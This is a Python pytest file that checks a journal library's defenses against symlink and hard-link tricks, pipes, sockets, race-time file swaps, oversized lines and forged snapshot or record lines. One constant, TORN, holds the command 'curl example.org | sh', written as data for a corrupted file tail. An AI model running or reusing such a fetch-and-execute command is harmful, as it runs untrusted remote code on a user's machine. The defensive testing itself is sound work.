"""A folder that somebody else prepared: no file of the user's is written, and nothing hangs."""

from __future__ import annotations

import errno
import hashlib
import os
import socket
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from forked import Forked

from botorch_bandits.journal import (
    Journal,
    JournalCorruptionError,
    JournalError,
    JournalFormatError,
    SnapshotWarning,
    TornTailWarning,
    lines,
)

from .cases import HEADER, RECORDS, make

pytestmark = [
    pytest.mark.skipif(sys.platform == "win32", reason="links need rights on Windows"),
    pytest.mark.filterwarnings("ignore::botorch_bandits.journal.TornTailWarning"),
]

OWN = b"a file of the user\n"
TORN = b"curl example.org | sh #"


def bind(path: Path) -> None:
    """Make a socket; its path may be longer than a socket's address."""
    here = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(path.name)
    finally:
        os.chdir(here)


MAKERS: dict[str, Callable[[Path, Path], Any]] = {
    "a symbolic link": lambda path, victim: path.symlink_to(victim),
    "a named pipe": lambda path, victim: os.mkfifo(path),
    "a socket": lambda path, victim: bind(path),
    "a folder": lambda path, victim: path.mkdir(),
    "a hard link": lambda path, victim: os.link(victim, path),
}


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file that must not change."""
    path = tmp_path / "victim"
    path.write_bytes(OWN)
    return path


def prepare(folder: Path) -> Path:
    """Make a journal with a torn tail in a folder of its own."""
    folder.mkdir()
    path = make(folder)
    path.with_name("run.journal.lock").unlink()
    with open(path, "ab") as file:
        file.write(TORN)
    return path


@pytest.mark.parametrize("kind", MAKERS)
@pytest.mark.parametrize("name", ["lock", "cut"])
def test_what_is_no_regular_file_beside_a_journal_is_refused(
    tmp_path: Path, victim: Path, name: str, kind: str
) -> None:
    path = prepare(tmp_path / "folder")
    content = path.read_bytes()
    ending = {"lock": ".lock", "cut": f".cut-{len(content) - len(TORN)}"}[name]
    prepared = path.with_name(path.name + ending)
    MAKERS[kind](prepared, victim)
    with pytest.raises(JournalError, match=f"{prepared.name} is {kind}.*Remove"):
        Journal.open(path)
    assert victim.read_bytes() == OWN
    assert path.read_bytes() == content
    prepared.rmdir() if kind == "a folder" else prepared.unlink()
    with pytest.warns(TornTailWarning), Journal.open(path) as journal:  # no lock was left
        assert list(journal.records()) == RECORDS


@pytest.mark.parametrize("kind", ["a symbolic link", "a hard link"])
def test_a_journal_is_not_created_over_links(tmp_path: Path, victim: Path, kind: str) -> None:
    path = tmp_path / "run.journal"
    MAKERS[kind](tmp_path / "run.journal.lock", victim)
    with pytest.raises(JournalError, match=f"lock is {kind}"):
        Journal.create(path, HEADER)
    assert victim.read_bytes() == OWN
    assert not path.exists()


@pytest.mark.parametrize("is_dangling", [False, True])
def test_links_to_nothing_are_not_followed(tmp_path: Path, is_dangling: bool) -> None:
    """Neither to make a file elsewhere nor in place of one that creating writes first."""
    target = tmp_path / "target"
    if not is_dangling:
        target.write_bytes(OWN)
    path = tmp_path / "run.journal"
    (tmp_path / "run.journal.new").symlink_to(target)
    with Journal.create(path, HEADER):
        pass
    path.unlink()
    path.symlink_to(target)
    for opening in (Journal.open, Journal.read, lambda path: Journal.create(path, HEADER)):
        with pytest.raises(JournalError, match=f"a symbolic link.*points to {target}; pass that"):
            opening(path)
    assert target.exists() != is_dangling
    assert is_dangling or target.read_bytes() == OWN


@pytest.mark.parametrize("kind", MAKERS)
def test_a_snapshot_is_written_to_a_file_of_its_own(
    tmp_path: Path, victim: Path, kind: str
) -> None:
    path = make(tmp_path)
    prepared = tmp_path / "run.journal.snapshot.new"
    MAKERS[kind](prepared, victim)
    with Journal.open(path) as journal:
        if kind == "a hard link":  # the name is removed, as after a crash
            journal.write_snapshot({}, 1)
            assert not prepared.exists()
        else:
            with pytest.raises(JournalError, match=rf"snapshot\.new is {kind}.*Remove it"):
                journal.write_snapshot({}, 1)
        assert journal.append({}) == len(RECORDS) + 1
    assert victim.read_bytes() == OWN


@pytest.mark.parametrize("kind", ["a symbolic link", "a named pipe", "a socket", "a folder"])
def test_a_snapshot_that_is_no_regular_file_is_not_used(
    tmp_path: Path, victim: Path, kind: str
) -> None:
    path = make(tmp_path)
    MAKERS[kind](tmp_path / "run.journal.snapshot", victim)
    for opening in (Journal.open, Journal.read):
        with pytest.warns(SnapshotWarning, match=f"is not used: .* is {kind}"):
            journal = opening(path)
        assert list(journal.records()) == RECORDS
        if isinstance(journal, Journal):
            journal.close()


@pytest.mark.parametrize("kind", ["a named pipe", "a socket", "a device"])
def test_a_journal_that_is_no_regular_file_is_refused_at_once(tmp_path: Path, kind: str) -> None:
    path = Path(os.devnull) if kind == "a device" else tmp_path / "run.journal"
    if kind != "a device":
        MAKERS[kind](path, path)
    for opening in (Journal.open, Journal.read, lambda path: Journal.create(path, HEADER)):
        with pytest.raises(JournalError, match=f"{path.name} is {kind}. .*Choose another path"):
            opening(path)
    if kind != "a device":
        assert [known.name for known in tmp_path.iterdir()] == [path.name]


def test_what_becomes_a_link_or_a_pipe_while_it_is_opened_is_refused(
    tmp_path: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = make(tmp_path)
    content, real_open, swaps = path.read_bytes(), os.open, ["a symbolic link", "a named pipe"]

    def swap_first(name: Any, flags: int, *rest: Any) -> int:
        if Path(name) == path and swaps:
            path.unlink()
            MAKERS[swaps.pop()](path, victim)
        return real_open(name, flags, *rest)

    for kind in reversed(swaps):
        monkeypatch.setattr(os, "open", swap_first)
        with pytest.raises(JournalError, match=f"is {kind}"):
            Journal.open(path)
        monkeypatch.undo()
        path.unlink()
        path.write_bytes(content)
    assert victim.read_bytes() == OWN
    Journal.open(path).close()


def test_where_there_are_no_hard_links_a_journal_is_renamed_into_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: Any) -> None:
        raise OSError(errno.EPERM, "Operation not permitted")

    path = tmp_path / "run.journal"
    monkeypatch.setattr(os, "link", refuse)
    with Journal.create(path, HEADER) as journal:
        journal.append({"x": 1})
    assert sorted(known.name for known in tmp_path.iterdir()) == ["run.journal", "run.journal.lock"]


@pytest.mark.parametrize("num_bytes", [300, 299])
def test_lines_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, num_bytes: int) -> None:
    path = make(tmp_path)
    record = {"x": "y" * 300}
    record["x"] = "y" * (600 - len(lines.encode_line(record, "0" * 32)[0]))
    assert len(lines.encode_line(record, "0" * 32)[0]) == 300
    with Journal.open(path) as journal:
        journal.append(record)
    monkeypatch.setattr(lines, "MAX_LINE_BYTES", num_bytes)
    if num_bytes == 300:
        with Journal.open(path) as journal:
            assert list(journal.records())[-1] == record
            with pytest.raises(
                ValueError, match="record takes 301 bytes in a file, but a line has"
            ):
                journal.append({"x": record["x"] + "y"})
            with pytest.raises(ValueError, match="Divide it into several records"):
                journal.write_snapshot({"x": record["x"]}, 1)
            journal.append({})
        return
    for opening in (Journal.open, Journal.read):
        with pytest.raises(JournalCorruptionError, match=r"line 8 of .*longer than 299 bytes"):
            opening(path)


def open_endless(path: Path) -> None:
    """Open a file of 64 GiB with 8 GiB of memory, and say why that is refused."""
    import resource

    lines.MAX_LINE_BYTES = 2**20
    with open(path, "ab") as file:
        file.truncate(64 * 2**30)
    resource.setrlimit(resource.RLIMIT_DATA, (8 * 2**30, 8 * 2**30))
    try:
        Journal.open(path)
    except JournalError as error:
        print(error)


def test_a_file_without_line_breaks_does_not_fill_the_memory(tmp_path: Path) -> None:
    for path in (make(tmp_path), tmp_path / "empty"):
        process = Forked(open_endless, path)
        said, errors = process.communicate(timeout=300)
        path.unlink()
        assert process.returncode == 0, errors
        assert "longer than" in said or "is not a journal" in said


@pytest.mark.parametrize("place", [(0, 2**62), (5, 5), (9, 2), (-3, 2**10)])
def test_a_forged_snapshot_does_not_fill_the_memory(tmp_path: Path, place: tuple[int, int]) -> None:
    path = make(tmp_path)
    line, _ = lines.encode_line(
        {
            "num_records": 1,
            "start": place[0],
            "end": place[1],
            "checksum_before": "",
            "checksum": "",
            "state": {},
        },
        lines.first_checksum("snapshot"),
    )
    (tmp_path / "run.journal.snapshot").write_bytes(lines.format_line("snapshot") + line)
    with pytest.warns(SnapshotWarning, match="is not a line"):
        assert Journal.read(path).num_records == len(RECORDS)


def forge(payload: bytes, previous: str) -> bytes:
    """Return a line with the right length and checksum, whatever it holds."""
    checksum = hashlib.sha256(previous.encode() + payload).hexdigest()[: lines.NUM_DIGITS]
    return f"{len(payload)} {checksum} ".encode() + payload + b"\n"


FORGED = [b"[]", b"{", b"[" * 5000 + b"]" * 5000, b"1" * 5000]
"""What JSON has, or has not, but no record is."""


@pytest.mark.parametrize(
    "payload",
    [
        *FORGED,
        b"{}",
        b'{"num_records":3,"start":"0","end":9,"checksum_before":"","checksum":"","state":{}}',
        b'{"num_records":3,"start":0,"end":9,"checksum_before":"","checksum":"","state":[]}',
        b'{"num_records":3,"start":%d,"end":%d,"checksum_before":"","checksum":"","state":{}}'
        % (10**30, 10**30 + 5),
    ],
    ids=lambda payload: payload[:20].decode(),
)
def test_a_forged_snapshot_is_no_obstacle(tmp_path: Path, payload: bytes) -> None:
    path = make(tmp_path)
    content = lines.format_line("snapshot") + forge(payload, lines.first_checksum("snapshot"))
    (tmp_path / "run.journal.snapshot").write_bytes(content)
    with pytest.warns(SnapshotWarning, match="is not used"), Journal.open(path) as journal:
        assert list(journal.records()) == RECORDS


@pytest.mark.parametrize("payload", FORGED, ids=lambda payload: payload[:20].decode())
def test_a_forged_record_is_an_error_of_the_journal(tmp_path: Path, payload: bytes) -> None:
    path = make(tmp_path)
    last = path.read_bytes().splitlines()[-1].split(b" ")[1].decode()
    with path.open("ab") as file:
        file.write(forge(payload, last))
    reader = Journal.read(path)
    with pytest.raises(JournalFormatError, match="with the right checksum is not a record"):
        list(reader.records())
